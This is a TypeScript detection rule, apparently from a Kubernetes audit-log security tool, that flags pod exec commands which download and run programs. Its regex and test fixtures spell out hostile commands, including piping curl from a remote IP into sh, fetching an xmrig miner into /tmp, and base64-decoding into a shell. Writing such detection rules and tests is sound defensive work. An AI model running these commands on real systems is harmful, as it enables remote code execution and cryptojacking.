import { request } from '@/lib/library';
import type { BuiltInRule } from '../built-in-rule';
import { IN_A_POD } from '../clauses';
import { IN_THE_POD, WHAT_ELSE_BY_USER } from '../next-questions';

export const downloadInPod: BuiltInRule = {
  kind: 'rule',
  name: 'download-in-pod',
  title: 'A command in a pod that fetches a program',
  about:
    'The command that was run in a pod fetches something over HTTP from elsewhere than the pod itself, or decodes and runs a script.',
  level: 'medium',
  confidence: 'medium',
  types: ['audit'],
  techniques: ['T1105', 'T1609'],
  matrix: ['MS-TA9007', 'MS-TA9006'],
  falsePositives: 'Somebody who tries whether a service answers: look at the address.',
  next: [WHAT_ELSE_BY_USER, IN_THE_POD],
  q: String.raw`type:audit ${IN_A_POD} exec.command:/(\b(curl|wget|fetch|aria2c)\b.*(https?|ftp):\/\/|\b(curl|wget)\b.*\|\s*(sudo )?(ba|da|z|k)?sh\b|base64 (-d|-D|--decode)\b.*\||\bchmod \+x \/(tmp|dev\/shm|var\/tmp)\/)/ -exec.command:/https?:\/\/(localhost|127\.0\.0\.1|\[::1\])/`,
  by: ['user', 'namespace', 'pod'],
  hits: [
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'sh -c curl -s http://203.0.113.9/a | sh' },
    ),
    request(
      { user: 'ann', verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'wget https://example.com/xmrig -O /tmp/x' },
    ),
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'sh -c echo aWQ= | base64 -d | sh' },
    ),
  ],
  misses: [
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'curl -s http://localhost:8080/healthz' },
    ),
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'wget -q -O- http://127.0.0.1:9090/-/ready' },
    ),
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 101 },
      { 'exec.command': 'curl --version' },
    ),
    request(
      { user: 'ann', verb: 'get', resource: 'pods', subresource: 'exec', namespace: 'shop', status: 403 },
      { 'exec.command': 'wget https://example.com/a' },
    ),
  ],
};
